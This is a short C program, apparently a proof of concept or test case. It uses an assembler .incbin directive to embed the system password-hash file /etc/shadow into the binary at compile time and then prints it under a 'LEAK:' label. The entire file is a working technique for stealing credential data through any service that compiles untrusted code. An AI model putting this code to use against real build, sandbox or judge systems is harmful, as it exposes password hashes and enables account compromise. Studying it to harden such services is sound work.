#include <stdio.h>
__asm__(".section .rodata\nstolen: .incbin \"/etc/shadow\"\n.byte 0\n.text\n");
extern const char stolen[];
int main(void) { printf("LEAK:%s\n", stolen); return 0; }
